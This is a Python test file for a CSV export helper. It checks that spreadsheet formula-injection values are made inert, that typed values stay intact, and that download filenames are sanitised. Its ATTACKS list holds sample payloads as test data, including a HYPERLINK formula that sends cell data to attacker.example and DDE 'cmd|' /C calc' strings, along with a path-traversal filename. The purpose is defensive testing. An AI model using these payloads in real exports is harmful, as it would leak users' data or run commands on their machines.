"""The shared CSV export: no cell can run as a spreadsheet formula; data survives intact."""

from __future__ import annotations

import csv
import datetime
import decimal
import io

from hypothesis import given
from hypothesis import strategies as st

from safeharbor.core.csv_export import (
    FORMULA_STARTS,
    csv_response,
    neutralise,
    safe_filename,
    write_csv,
)

ATTACKS = [
    '=HYPERLINK("http://attacker.example/?"&A1,"Click")',
    "+1+cmd|' /C calc'!A0",
    "-2+3",
    "@SUM(1+1)*cmd|' /C calc'!A0",
    "\t=1+1",
    "\r=1+1",
    "\uff1d1+1",
]


def read_back(text: str) -> list[list[str]]:
    return list(csv.reader(io.StringIO(text.lstrip("\ufeff"))))


def test_every_known_attack_is_made_inert():
    for attack in ATTACKS:
        cell = neutralise(attack)
        assert cell == "'" + attack
        assert not cell.startswith(FORMULA_STARTS)


def test_typed_values_are_left_alone_so_negative_amounts_stay_numbers():
    assert neutralise(-12.5) == -12.5
    assert neutralise(decimal.Decimal("-300.00")) == decimal.Decimal("-300.00")
    assert neutralise(datetime.date(2026, 1, 2)) == datetime.date(2026, 1, 2)
    assert neutralise(None) == ""
    assert neutralise("Portland") == "Portland"


@given(st.lists(st.lists(st.text(max_size=40), min_size=3, max_size=3), max_size=8))
def test_no_cell_of_any_export_starts_a_formula_and_text_survives(rows):
    out = io.StringIO()
    written = write_csv(out, ["a", "b", "c"], rows)
    assert written == len(rows)
    parsed = read_back(out.getvalue())
    assert parsed[0] == ["a", "b", "c"]
    assert len(parsed) == len(rows) + 1
    for original, cells in zip(rows, parsed[1:], strict=True):
        for value, cell in zip(original, cells, strict=True):
            assert not cell.startswith(FORMULA_STARTS)
            expected = ("'" + value) if value.startswith(FORMULA_STARTS) else value
            assert cell == expected


def test_the_download_is_streamed_with_a_safe_name_and_not_cached():
    rows = ([i, f"=cmd{i}"] for i in range(1000))  # lazy, like a queryset iterator
    response = csv_response('../../etc/"passwd"\r\n.csv', ["n", "value"], rows)
    assert response.streaming
    assert response["Content-Disposition"] == 'attachment; filename="etc-passwd-.csv"'
    assert response["Cache-Control"] == "no-store"
    body = b"".join(response.streaming_content).decode("utf-8")
    assert body.startswith("\ufeff")
    parsed = read_back(body)
    assert parsed[1] == ["0", "'=cmd0"] and len(parsed) == 1001


def test_safe_filename():
    assert safe_filename("funds statement 2026") == "funds-statement-2026.csv"
    assert safe_filename("////") == "export.csv"
    assert safe_filename("report.CSV") == "report.CSV"
